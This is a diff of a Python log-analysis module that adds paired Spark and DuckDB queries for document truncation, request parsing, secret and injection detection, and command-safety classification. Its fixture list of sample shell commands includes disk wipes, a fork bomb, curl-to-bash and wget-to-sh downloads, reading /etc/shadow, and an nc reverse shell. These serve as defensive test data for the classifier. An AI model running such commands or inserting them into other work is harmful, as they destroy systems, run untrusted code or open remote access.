@@ -10,7 +10,8 @@ from pyspark.sql import functions as F
 from timberline.functions import line_columns as L
 from timberline.functions import patterns as P
 from timberline.operators import analysis as A
-from timberline.operators import cluster, entries, series, trends
+from timberline.operators import cluster, commands, documents, entries, series, trends
+from timberline.operators.blocks import with_previous
 from timberline.operators import fingerprint as X
 from timberline.operators import similarity as S
 from timberline.session import cut, shared_dir, table
@@ -302,10 +303,8 @@ _TRI = "CASE WHEN length(s) >= 3 THEN list_distinct(list_transform(range(1, leng
 )
 def shingle_jaccard(spark, d):
     """Each line against the line before."""
-    from pyspark.sql.window import Window
-
     t = log_lines(spark, d).select("doc_id", "pos", L.fingerprint_text(F.col("line")).alias("s")).select("doc_id", "pos", L.trigrams(F.col("s")).alias("g"))
-    p = t.withColumn("h", F.lag("g").over(Window.partitionBy("doc_id").orderBy("pos"))).where("h is not null")
+    p = with_previous(t, "doc_id", "pos", "g", "h").where("h is not null")
     return p.select("doc_id", "pos", F.round(L.jaccard(F.col("g"), F.col("h")), 9).alias("similarity"))
 
 
@@ -460,7 +459,8 @@ _GRAMS = "list_distinct(list_transform(range(1, greatest(length(s) - 1, 2)), lam
     f"WITH m AS (SELECT cluster_id, id, {_GRAMS} AS g FROM (SELECT cluster_id, id, {NORMAL.replace('(line,', '(error_fingerprint,')} AS s FROM {LOG} WHERE cluster_id IS NOT NULL AND error_fingerprint IS NOT NULL)),"
     " f AS (SELECT cluster_id, arg_min(g, id) AS f, count(*) AS n FROM m GROUP BY 1 HAVING count(*) >= 4),"
     " d AS (SELECT cluster_id, id, g, 1 - len(list_intersect(g, f)) / (len(g) + len(f) - len(list_intersect(g, f))) AS d0 FROM m JOIN f USING (cluster_id)),"
-    " s AS (SELECT cluster_id, arg_max(g, (d0, -id)) AS s, max(d0) AS d FROM d GROUP BY 1 HAVING max(d0) > 0.5)"
+    " wide AS (SELECT DISTINCT a.cluster_id FROM d a JOIN d b ON a.cluster_id = b.cluster_id AND a.id < b.id AND 1 - len(list_intersect(a.g, b.g)) / (len(a.g) + len(b.g) - len(list_intersect(a.g, b.g))) > 0.5),"
+    " s AS (SELECT cluster_id, arg_max(g, (d0, -id)) AS s FROM d WHERE cluster_id IN (SELECT cluster_id FROM wide) GROUP BY 1)"
     " SELECT cluster_id, id, CAST(1 - len(list_intersect(g, s)) / (len(g) + len(s) - len(list_intersect(g, s))) < d0 AS INT) AS side FROM d JOIN s USING (cluster_id)"
 )
 def cluster_split(spark, d):
@@ -623,6 +623,177 @@ def alert_rate(spark, d):
     s = pipeline.error_rate(pipeline.stream_table(spark, d, "line_index"), "timestamp_us", late="3650 days")
     return pipeline.drain(s, "complete").select(F.unix_micros("start").alias("start_us"), "n")
 
+# -- whole documents, commands, lookups -------------------------------------------------------------------------------
+
+_BREAKS = "\r\n|[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]"
+_SPLIT = lambda c: f"string_split_regex({c}, {q(_BREAKS)})"
+_REQUESTS = f"WITH docs AS (SELECT DISTINCT request_no AS doc_id, log_text AS text FROM analyze_request), parts AS (SELECT doc_id, CASE WHEN p[-1] = '' THEN p[:-2] ELSE p END AS l FROM (SELECT doc_id, {_SPLIT('text')} AS p FROM docs WHERE text <> '')), log_lines AS (SELECT doc_id, generate_subscripts(l, 1) - 1 AS pos, unnest(l) AS line FROM parts)"
+
+
+def _truncated_sql(c: str) -> str:
+    l = f"(CASE WHEN {_SPLIT(c)}[-1] = '' THEN {_SPLIT(c)}[:-2] ELSE {_SPLIT(c)} END)"
+    a, b = P.OMITTED_LINES
+    return f"CASE WHEN length({c}) <= 6000 THEN {c} WHEN len({l}) <= 150 THEN left({c}, 3000) || {q(P.OMITTED_TEXT)} || right({c}, 3000) ELSE array_to_string({l}[1:50], chr(10)) || {q(a)} || CAST(len({l}) - 150 AS VARCHAR) || {q(b)} || array_to_string({l}[-100:], chr(10)) END"
+
+
+@query(f"SELECT doc_id, md5({_truncated_sql('text')}) AS digest FROM (SELECT DISTINCT doc_id, text FROM documents) WHERE text IS NOT NULL")
+def truncated_texts(spark, d):
+    """X08."""
+    docs = table(spark, d, "documents").select("doc_id", "text").dropDuplicates(["doc_id"]).where("text is not null")
+    return docs.select("doc_id", F.md5(documents.truncated_text(F.col("text"))).alias("digest"))
+
+
+_PARSED = f"{_REQUESTS}, g AS (SELECT doc_id, {_SIG} FROM log_lines GROUP BY doc_id), b AS (SELECT *, {_BEST} AS score FROM g), pl AS (SELECT doc_id, CASE WHEN score = 0 THEN 'Unknown' " + " ".join(f"WHEN {x} = score THEN {q(n)}" for x, n in _SCORES) + f" END AS platform FROM b), e AS (SELECT doc_id, {STRIP} AS error_line, min(pos) AS f FROM log_lines WHERE {ERR} AND length({STRIP}) >= 5 GROUP BY 1, 2), r AS (SELECT *, row_number() OVER (PARTITION BY doc_id ORDER BY f) AS k FROM e), el AS (SELECT doc_id, string_agg(error_line, chr(10) ORDER BY k) AS errors FROM r WHERE k <= 30 GROUP BY 1), parsed AS (SELECT d.doc_id, coalesce(platform, 'Unknown') AS platform, coalesce(errors, '') AS errors, {_truncated_sql('text')} AS t, text FROM docs d LEFT JOIN pl USING (doc_id) LEFT JOIN el USING (doc_id))"
+
+
+def _requests(spark, d):
+    return documents.parsed(table(spark, d, "analyze_request").dropDuplicates(["request_no"]), "request_no", "log_text")
+
+
+@query(_PARSED + " SELECT doc_id, platform, errors, md5(t) AS digest, coalesce(length(t) < length(text), false) AS is_truncated FROM parsed")
+def parsed_requests(spark, d):
+    """X27."""
+    return _requests(spark, d).select("doc_id", "platform", F.array_join("error_lines", "\n").alias("errors"), F.md5("text").alias("digest"), "is_truncated")
+
+
+@query(_PARSED + f", raw AS (SELECT doc_id, platform || chr(10) || errors AS line FROM parsed) SELECT doc_id, sha256({CACHE}) AS cache_key, sha256(line) AS raw_key FROM raw")
+def request_keys(spark, d):
+    """X04, X05."""
+    return documents.keys(_requests(spark, d))
+
+
+@query(
+    f"{LINES}, a AS (SELECT doc_id, count(*) AS total_lines, count(*) FILTER ({STATS_ERR}) AS error_lines, max(length(line)) AS max_line_length FROM log_lines GROUP BY 1),"
+    f" b AS (SELECT doc_id, count({A_TYPE}) AS total_anomalies, bool_or({FLAG['burst']}) AS has_burst FROM log_lines GROUP BY 1),"
+    f" c0 AS (SELECT doc_id, substr({STRIP}, 1, 80) AS s, count(*) AS n FROM log_lines GROUP BY 1, 2 HAVING count(*) >= 2), c AS (SELECT doc_id, count(*) AS repeated_signatures, max(n) AS most_repeats FROM c0 WHERE s <> '' GROUP BY 1),"
+    f" st AS (SELECT doc_id, pos, {STAMP} AS us FROM log_lines), t AS (SELECT doc_id, arg_min(us, pos) AS first_us, arg_max(us, pos) AS last_us FROM st WHERE us IS NOT NULL GROUP BY 1)"
+    " SELECT doc_id, total_lines, error_lines, max_line_length, total_anomalies, has_burst, repeated_signatures, most_repeats, first_us, last_us, 2 + CAST(c.doc_id IS NOT NULL AS INT) + CAST(t.doc_id IS NOT NULL AS INT) AS analyses FROM a JOIN b USING (doc_id) LEFT JOIN c USING (doc_id) LEFT JOIN t USING (doc_id)"
+)
+def analyzer_report(spark, d):
+    """X28."""
+    r = documents.report(log_lines(spark, d))
+    return r.select("doc_id", "total_lines", "error_lines", "max_line_length", "total_anomalies", "has_burst", "repeated_signatures", "most_repeats", "first_us", "last_us", "analyses")
+
+
+#: A command per event, the same in Spark and DuckDB.
+_SHELL = ["ls -la /srv", "rm -rf /", "rm -fr /*", "sudo systemctl restart app", "docker exec web sudo ls", "curl https://example.org/x | bash", "wget -qO- http://example.org | sh", "cp app.conf  /etc/app.conf", "cat /etc/shadow", "chmod -R 777 /", "echo 'unclosed", "kubectl delete pod x", "git push --force origin main", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb", ":(){ :|:& };:", "curl -s http://x.example | python3", "nc 10.0.0.1 99 -e /bin/sh", "", "   ", 'echo "a \\" b"', "sudo rm file", "mv / /tmp/x", "kill -9 17"]
+_COMMANDS_SQL = "SELECT event_id, user_id, CASE event_id % {n} {cases} END AS command FROM EVENTS_TABLE".format(n=len(_SHELL), cases=" ".join(f"WHEN {i} THEN {q(c)}" for i, c in enumerate(_SHELL)))
+_CLOSED_SQL = "regexp_full_match(c, '(?s)(?:[^\\\\''\"]|\\\\.|''[^'']*''|\"(?:[^\"\\\\]|\\\\.)*\")*')"
+
+
+def _commands(spark, d):
+    n, out = len(_SHELL), F.lit(None).cast("string")
+    for i, c in enumerate(_SHELL):
+        out = F.when(F.pmod("event_id", F.lit(n)) == i, c).otherwise(out)
+    return table(spark, d, "events").select("event_id", "user_id", out.alias("command"))
+
+
+def _command_level(what: int) -> str:
+    rules = " ".join(f"WHEN {has('c', x[0])} THEN {q(x[what])}" for x in P.COMMAND_CLASSES)
+    risk = f"{has('c', P.COMMAND_SUDO)} AND NOT contains(lower(c), 'docker') OR {has('c', P.COMMAND_SYSTEM_WRITE)}"
+    first, risky, last = ("'review'", "'review'", "'safe'") if what == 1 else ("NULL", "'privilege_escalation'", "NULL")
+    return f"CASE WHEN NOT {_CLOSED_SQL} THEN {first} {rules} WHEN {risk} THEN {risky} ELSE {last} END"
+
+
+_COMMANDS = "WITH e AS (" + _COMMANDS_SQL.replace("EVENTS_TABLE", "events") + "), k AS (SELECT *, trim(command) AS c FROM e)"
+
+
+@query(f"{_COMMANDS} SELECT event_id, {_command_level(1)} AS level, {_command_level(2)} AS category FROM k WHERE c <> ''")
+def command_safety(spark, d):
+    """X18."""
+    c = _commands(spark, d).select("event_id", commands.classified(F.col("command")).alias("x")).where("x is not null")
+    return c.select("event_id", "x.level", "x.category")
+
+
+@query(f"{_COMMANDS}, l AS (SELECT user_id, {_command_level(1)} AS level FROM k WHERE c <> '') SELECT user_id, count(*) FILTER (level = 'safe') AS safe, count(*) FILTER (level = 'review') AS review, count(*) FILTER (level = 'dangerous') AS dangerous, CASE WHEN bool_or(level = 'dangerous') THEN 'dangerous' WHEN bool_or(level = 'review') THEN 'review' ELSE 'safe' END AS overall FROM l GROUP BY 1")
+def command_summary(spark, d):
+    """A26."""
+    return commands.summary(_commands(spark, d), "user_id", "command")
+
+
+@query(f"{_COMMANDS}, g AS (SELECT event_id, CASE WHEN c = '' THEN 'empty' WHEN NOT {_CLOSED_SQL} THEN 'syntax' " + " ".join(f"WHEN {has('c', p)} THEN 'blocked'" for p in P.COMMANDS_BLOCKED) + " " + " ".join(f"WHEN {has('c', p)} THEN 'review'" for p in P.COMMANDS_REVIEWED) + " ELSE 'safe' END AS verdict FROM k) SELECT * FROM g")
+def command_gate(spark, d):
+    """X17."""
+    return _commands(spark, d).select("event_id", commands.gate(F.col("command")).alias("verdict"))
+
+
+@query(f"WITH n AS (SELECT md5(centroid_fingerprint) AS k, arg_max(cluster_id, (last_seen, cluster_id)) AS stored_id, max(last_seen) AS s FROM error_cluster WHERE centroid_fingerprint IS NOT NULL GROUP BY 1) SELECT id, stored_id, created_at <= s + INTERVAL 30 DAYS AS alive FROM (SELECT id, md5(error_fingerprint) AS k, created_at FROM {LOG}) JOIN n USING (k)")
+def exact_lookup(spark, d):
+    """Stored clusters of the same text, alive for 30 days."""
+    log = _log(spark, d).select("id", F.md5("error_fingerprint").alias("k"), F.col("created_at").alias("at"))
+    store = table(spark, d, "error_cluster").select(F.md5("centroid_fingerprint").alias("k"), F.col("cluster_id").alias("stored_id"), F.col("last_seen").alias("stored_at"))
+    return documents.exact_hits(log, store, "k", "30 DAYS").select("id", "stored_id", "alive")
+
+
+_ALIASES = {"gha": "GitHub Actions", "github": "GitHub Actions", "github_actions": "GitHub Actions"}
+_CATALOGUE = [(low, k, i, e) for low, k in ({k.lower(): k for k in P.PLATFORM_SIGNATURES} | _ALIASES).items() for i, e in enumerate(P.PLATFORM_SIGNATURES[k])]
+
+
+@query("WITH c(low, platform, ord, entry) AS (VALUES " + ", ".join(f"({q(a)}, {q(b)}, {i}, {q(e)})" for a, b, i, e in _CATALOGUE) + ") SELECT request_no, platform, ord, entry FROM (SELECT DISTINCT request_no, platform_hint FROM analyze_request) JOIN c ON lower(platform_hint) = low")
+def catalogue_entries(spark, d):
+    """The signatures of each request's platform."""
+    r = table(spark, d, "analyze_request").select("request_no", "platform_hint").dropDuplicates(["request_no"])
+    return documents.catalogue(r, "platform_hint", P.PLATFORM_SIGNATURES, _ALIASES).select("request_no", "platform", "ord", "entry")
+
+
+_TL = f"regexp_extract(line, {q(P.TIMELINE_STAMP)}, 1)"
+
+
+@query(f"{LINES}, s AS (SELECT doc_id, pos, {_TL} AS s FROM log_lines) SELECT doc_id, pos, CASE WHEN regexp_matches(s, '^\\d{{4}}-') THEN epoch_us(TRY_CAST(replace(s[1:19], 'T', ' ') AS TIMESTAMP)) WHEN regexp_matches(s, '^\\d{{4}}/') THEN epoch_us(try_strptime(regexp_replace(s, '\\s+', ' ', 'g'), '%Y/%m/%d %H:%M:%S')) WHEN regexp_matches(s, '^\\d+$') THEN CASE WHEN CAST(s AS BIGINT) > 1000000000000 THEN CAST(s AS BIGINT) // 1000 ELSE CAST(s AS BIGINT) END * 1000000 ELSE epoch_us(try_strptime('2024 ' || regexp_replace(s, '\\s+', ' ', 'g'), '%Y %b %d %H:%M:%S')) END AS us FROM s WHERE s <> ''")
+def timeline_stamps(spark, d):
+    """P06."""
+    t = log_lines(spark, d).where(F.col("line").rlike(P.TIMELINE_STAMP))
+    return t.select("doc_id", "pos", L.timeline_us(F.col("line")).alias("us"))
+
+
+_WORDS3 = "list_filter(string_split_regex(text, '\\s+'), lambda x: x <> '')"
+
+
+@query(f"WITH t AS (SELECT DISTINCT doc_id, text FROM documents WHERE length(text) >= 3), u AS (SELECT doc_id, text, {_WORDS3} AS w FROM t) SELECT doc_id, len(list_distinct(CASE WHEN length(text) < 5000 THEN list_transform(range(1, length(text) - 1), lambda i: substr(text, i, 3)) ELSE list_concat(list_transform(range(1, len(w) - 1), lambda i: array_to_string(w[i:i + 2], ' ')), list_transform(range(1, 1999), lambda i: substr(text, i, 3))) END)) AS n FROM u")
+def text_shingles(spark, d):
+    """Number of shingles of each document."""
+    docs = table(spark, d, "documents").select("doc_id", "text").where(F.length("text") >= 3).dropDuplicates(["doc_id"])
+    return docs.select("doc_id", F.size(L.shingles(F.col("text"))).cast("bigint").alias("n"))
+
+
+def _secret_rows_sql() -> str:
+    c, parts = "line", []
+    for name, p, to in P.SECRET_RULES:
+        m = f"SELECT doc_id, pos, regexp_extract_all(c, {q(p)}) AS f, string_split_regex(c, {q(p)}) AS b FROM (SELECT doc_id, pos, {c} AS c FROM hit)"
+        parts.append(f"SELECT doc_id, pos, {q(name)} AS rule, list_sum(list_transform(b[1:i], lambda x: length(x))) + coalesce(list_sum(list_transform(f[1:i - 1], lambda x: length(x))), 0) AS place, sha256(left(f[i], 8)) AS hash FROM (SELECT *, unnest(range(1, len(f) + 1)) AS i FROM ({m}))")
+        c = f"regexp_replace({c}, {q(p)}, {q(to)}, 'g')"
+    return f"{LINES}, hit AS (SELECT doc_id, pos, line FROM log_lines WHERE {has('line', P.SECRET_SIGN)}) SELECT doc_id, pos, rule, CAST(place AS INT) AS place, hash FROM (" + " UNION ALL ".join(parts) + ")"
+
+
+@query(_secret_rows_sql())
+def secret_rows(spark, d):
+    """X12."""
+    return X.secret_rows(log_lines(spark, d))
+
+
+def _attempts_sql() -> str:
+    gate = " OR ".join(f"contains(lower(log_text), {q(w)})" for w in P.TRIPWIRES)
+    by = {n: k for k, names in P.INJECTION_SEVERITY.items() for n in names}
+    c, parts = "c0", []
+    for name, p in P.INJECTIONS:
+        parts.append(f"SELECT request_no, {q(name)} AS name, {q(by.get(name, 'low'))} AS severity, len(regexp_extract_all({c}, {q(p)})) AS n FROM t")
+        c = f"regexp_replace({c}, {q(p)}, '[REDACTED]', 'g')"
+    cut = "array_to_string(list_transform(string_split(log_text, chr(10)), lambda x: CASE WHEN length(x) > 2000 THEN left(x, 2000) || '...[TRUNCATED]' ELSE x END), chr(10))"
+    return f"WITH t AS (SELECT request_no, {cut} AS c0 FROM (SELECT DISTINCT request_no, log_text FROM analyze_request) WHERE {gate}) SELECT * FROM (" + " UNION ALL ".join(parts) + ") WHERE n > 0"
+
+
+@query(_attempts_sql())
+def attempt_rows(spark, d):
+    """X15."""
+    return X.attempt_rows(X.sanitized(table(spark, d, "analyze_request").dropDuplicates(["request_no"]), "request_no", "log_text"), "request_no")
+
+
+@query(f"SELECT strftime(CAST(served_at AT TIME ZONE 'UTC' AS DATE), '%Y-%m') AS month, model_used, count(*) AS calls, sum(CAST(cost_usd AS DECIMAL(18,6))) AS cost FROM {META} GROUP BY 1, 2")
+def monthly_cost(spark, d):
+    """Totals by month."""
+    m = F.date_format("served_at", "yyyy-MM")
+    return _meta(spark, d).groupBy(m.alias("month"), "model_used").agg(F.count("*").alias("calls"), F.sum(F.col("cost_usd").cast("decimal(18,6)")).cast("decimal(38,6)").alias("cost"))
+
 
 def queries() -> dict[str, Callable[[SparkSession, str], DataFrame]]:
     return dict(QUERIES)
